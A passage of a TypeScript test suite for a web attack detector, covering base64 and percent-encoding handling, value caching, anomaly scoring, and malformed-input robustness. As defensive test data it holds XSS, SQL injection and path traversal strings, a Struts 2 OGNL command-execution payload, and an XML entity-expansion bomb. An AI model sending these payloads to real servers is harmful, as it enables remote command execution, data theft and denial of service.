    expect(locations(request).filter((l) => l.includes('(stray % removed)'))).toEqual([]);
  });

  /** What the detector reports, computed the plain way: every collected value (copies included) inspected in order. */
  const referenceHits = (request: RequestView): string[] => {
    const hits = [...protocolHits(request), ...sessionFixationHits(request), ...prototypePathHits(request)].map(
      (h) => `${h.rule.id}@${h.location}:${h.parameter}`,
    );
    const seen = new Set<string>();
    let budget = MAX_CHARS_PER_REQUEST;
    for (const value of collectValues(request)) {
      if (budget <= 0 || hits.length >= MAX_HITS) break;
      budget -= value.raw.length;
      for (const rule of inspectValue(value)) {
        const key = `${rule.id}@${value.location}:${value.name}`;
        if (seen.has(key) || hits.length >= MAX_HITS) continue;
        seen.add(key);
        hits.push(key);
      }
    }
    return hits;
  };
  const hitsOf = (detector: Detector, request: RequestView): string[] => detector.detect(request).hits.map((h) => `${h.rule.id}@${h.location}:${h.parameter}`);

  it('reports unwrapped copies (base64, stray %) the same whether a value is seen for the first time or remembered', () => {
    const wrapped = (payload: string): string => encodeURIComponent(Buffer.from(payload).toString('base64'));
    const piece = fc.constantFrom(
      'page=2',
      'q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D',
      `file=${wrapped('../../../etc/passwd')}`,
      `id=${wrapped("1' or '1'='1")}`,
      `n=${wrapped('hello world, nothing here')}`,
      "s=' or 1=1--",
      // ASP's reading of stray % signs, once encoded (`%25`) so the query parser keeps them.
      'asp=1%27%20%25o%25r%20%251%25=%251%20--',
      'pct=50%25off%20and%2020%25more',
      'JSESSIONID=0123456789abcdef',
      'token=eyJhbGciOiJIUzI1NiJ9',
      // Long values (remembered apart, by their characters) and one too long to remember.
      `long=${'a'.repeat(1100)}%27%20or%201=1--`,
      `prose=${'word%20'.repeat(300)}`,
      `blob=${wrapped(`<script>alert(1)</script>${' '.repeat(900)}`)}`,
      `huge=${'x'.repeat(17_000)}%27%20or%201=1--`,
    );
    const detector = new Detector();
    fc.assert(
      fc.property(
        fc.array(piece, { minLength: 1, maxLength: 12 }),
        fc.constantFrom('', 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk%2B', `${'A'.repeat(1500)}'--`),
        (pairs, cookie) => {
          const request = view({
            method: 'GET',
            target: `/a?${pairs.join('&')}`,
            requestHeaders: [...(cookie ? [['Cookie', `c=${cookie}`] as [string, string]] : []), ['Referer', 'https://elsewhere.example.net/']],
          });
          const expected = referenceHits(request);
          expect(hitsOf(detector, request)).toEqual(expected);
          // The second time every verdict and every copy comes from the detector's memory.
          expect(hitsOf(detector, request)).toEqual(expected);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('remembers values up to 16 Ki characters, long ones by their characters; longer ones are inspected every time', () => {
    const inspected: string[] = [];
    const counting: RulePack = {
      name: 'counting',
      classification: 'SqlInjection',
      rules: [],
      readsPlainValues: true,
      prefilter: () => true,
      inspect: (v) => void inspected.push(v.name),
    };
    const detector = new Detector({ packs: [counting] });
    const request = view({
      method: 'GET',
      target: `/a?short=1&long=${'b'.repeat(2_000)}&huge=${'c'.repeat(17_000)}`,
    });
    detector.detect(request);
    detector.detect(request);
    expect(inspected.filter((name) => name === 'short')).toHaveLength(1);
    expect(inspected.filter((name) => name === 'long')).toHaveLength(1);
    expect(inspected.filter((name) => name === 'huge')).toHaveLength(2);
  });

  it('counts base64 copies toward the values one request may have inspected, and reports a request past that limit', () => {
    const copy = Buffer.from('<script>alert(1)</script>').toString('base64');
    const filler = Buffer.from('plain words, nothing else').toString('base64');
    const queries = MAX_VALUES_PER_REQUEST / 4;
    // The path, `queries` query parameters and `cookies` cookies, each of them with its copy, then the header.
    const request = (cookies: number): RequestView =>
      view({
        method: 'GET',
        target: `/a?${Array.from({ length: queries }, (_, i) => `p${i}=${encodeURIComponent(filler)}`).join('&')}`,
        requestHeaders: [
          ['Cookie', Array.from({ length: cookies }, (_, i) => `c${i}=${filler}`).join('; ')],
          ['X-Last', copy],
        ],
      });
    const cookies = (MAX_VALUES_PER_REQUEST - 2 - 2 * queries) / 2;
    const full = request(cookies);
    // 1 + 2 * queries + 2 * cookies values before the header: the header is the last value read, its copy is not.
    expect(collectValues(full)).toHaveLength(MAX_VALUES_PER_REQUEST);
    expect(collectValues(full).at(-1)?.name).toBe('X-Last');
    const roomy = request(cookies - 1);
    expect(collectValues(roomy).at(-1)?.name).toBe('X-Last (base64)');
    const detector = new Detector();
    const PADDING = 960111;
    const valueHits = (r: RequestView) => hitsOf(detector, r).filter((h) => !h.startsWith(`${PADDING}@`));
    for (const r of [full, roomy, full, roomy]) expect(valueHits(r)).toEqual(referenceHits(r));
    expect(hitsOf(detector, full).some((h) => h.endsWith('X-Last (base64)'))).toBe(false);
    expect(hitsOf(detector, roomy).some((h) => h.endsWith('X-Last (base64)'))).toBe(true);
    // The value left unread is the sign of padding: the request is reported for it.
    expect(hitsOf(detector, full)).toContain(`${PADDING}@header::request`);
    expect(hitsOf(detector, roomy).some((h) => h.startsWith(`${PADDING}@`))).toBe(false);
  });

  it('reads Content-Type too: OGNL rides in it (the Struts 2 Jakarta multipart attack)', () => {
    const engine = createAnalysisEngine();
    const ognl =
      "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#p=new java.lang.ProcessBuilder('id')).(#p.start())}";
    const events = engine.analyze(
      buildExchange({ method: 'POST', target: '/upload.action', requestHeaders: [['Content-Type', ognl]], requestBody: 'x' }),
      context,
    );
    const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
    expect(match?.matches.map((m) => `${m.classification} ${m.location} ${m.parameter}`)).toContain('JavaInjection header Content-Type');
  });

  it('skips binary bodies however they are labelled', () => {
    expect(looksOpaque('abc\u0000def')).toBe(true);
    expect(looksOpaque('{"a":"b"}')).toBe(false);
    const request = view({
      method: 'POST',
      target: '/collect',
      requestHeaders: [['Content-Type', 'text/plain']],
      requestBody: Buffer.from([0x01, 0x00, 0x3c, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0x3e]),
    });
    expect(collectValues(request).filter((v) => v.location === 'body')).toEqual([]);
  });
});

describe('anomaly scoring', () => {
  const rule = (id: number, severity: Rule['severity'], confidence: Rule['confidence']): Rule => ({
    id,
    classification: 'SqlInjection',
    description: `rule ${id}`,
    state: 'Exploitation',
    severity,
    confidence,
    risk: 50,
  });
  const weak = rule(1, 'warning', 'high');
  const weaker = rule(2, 'notice', 'high');
  const pack: RulePack = {
    name: 'test',
    classification: 'SqlInjection',
    readsPlainValues: true,
    rules: [weak, weaker],
    prefilter: (v) => v.lower.includes('weak'),
    inspect: (v, report) => {
      report(weaker);
      if (v.lower.includes('weaker')) report(weak);
    },
  };
  const request = (q: string): RequestView => view({ target: `/x?q=${q}` });

  it('scores each distinct rule once and alerts at the level threshold', () => {
    expect(ruleScore(weak)).toBe(3);
    expect(ruleScore(weaker)).toBe(2);
    expect(LEVEL_THRESHOLDS).toEqual({ 1: 5, 2: 4, 3: 3, 4: 2 });
    const alerts = (level: 1 | 2 | 3 | 4, q: string): boolean => new Detector({ level, packs: [pack] }).detect(request(q)).alert;
    expect([1, 2, 3, 4].map((level) => alerts(level as 1, 'weak'))).toEqual([false, false, false, true]);
    expect([1, 2, 3, 4].map((level) => alerts(level as 1, 'weaker'))).toEqual([true, true, true, true]);
    const result = new Detector({ packs: [pack] }).detect(view({ target: '/x?q=weaker&r=weaker' }));
    expect(result.score).toBe(5);
    expect(result.hits.map((h) => `${h.rule.id}:${h.parameter}`).sort()).toEqual(['1:q', '1:r', '2:q', '2:r']);
  });

  it('lists every contributing rule, the score and the level in the MatchEvent', () => {
    const engine = createAnalysisEngine({ detectionLevel: 2 });
    const events = engine.analyze(buildExchange({ target: '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&f=..%2F..%2F..%2Fetc%2Fpasswd' }), context);
    const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
    expect(match).toBeDefined();
    expect(match!.detection_level).toBe(2);
    expect(match!.anomaly_threshold).toBe(4);
    expect(match!.anomaly_score).toBe(match!.matches.reduce((sum, m, i, all) => (all.findIndex((o) => o.id === m.id) === i ? sum + m.contrib_score : sum), 0));
    expect(match!.matches.length).toBeGreaterThanOrEqual(2);
  });
});

describe('own cases for the classes the development corpora hold few of', () => {
  const own = loadOwnCases();
  const score = scoreCorpora(own.attacks, own.benign, 1);

  it('detects every class at level 1 and lets every benign look-alike pass', () => {
    for (const [cls, entry] of Object.entries(score.perClass)) expect({ cls, rate: entry.rate >= 0.95 }).toEqual({ cls, rate: true });
    expect(score.falsePositiveEvents.map((f) => f.record.payload)).toEqual([]);
  });
});

describe('hostile requests', () => {
  const engine = createAnalysisEngine();
  const analyze = (spec: Parameters<typeof buildExchange>[0]) => engine.analyze(buildExchange(spec), context);

  it('analyses deep, huge and broken messages without failing', () => {
    const deepJson = '['.repeat(10_000) + '"<script>"' + ']'.repeat(10_000);
    const deepXml = '<a>'.repeat(10_000) + '&lol;' + '</a>'.repeat(10_000);
    const bomb =
      '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>';
    for (const body of [deepJson, deepXml, bomb, 'x'.repeat(16 * 1024 * 1024), '%'.repeat(100_000), '&#'.repeat(200_000)]) {
      const type = body.startsWith('[') ? 'application/json' : body.startsWith('<') ? 'application/xml' : 'text/plain';
      expect(Array.isArray(analyze({ method: 'POST', target: '/x', requestHeaders: [['Content-Type', type]], requestBody: body }))).toBe(true);
    }
    const headers: Array<[string, string]> = Array.from({ length: 300 }, (_, i) => [`X-H${i}`, `${'%25'.repeat(3000)}<svg onload=alert(${i})>`]);
    expect(Array.isArray(analyze({ target: '/x', requestHeaders: headers }))).toBe(true);
    expect(engine.counters().malformed).toBe(0);
  });
});
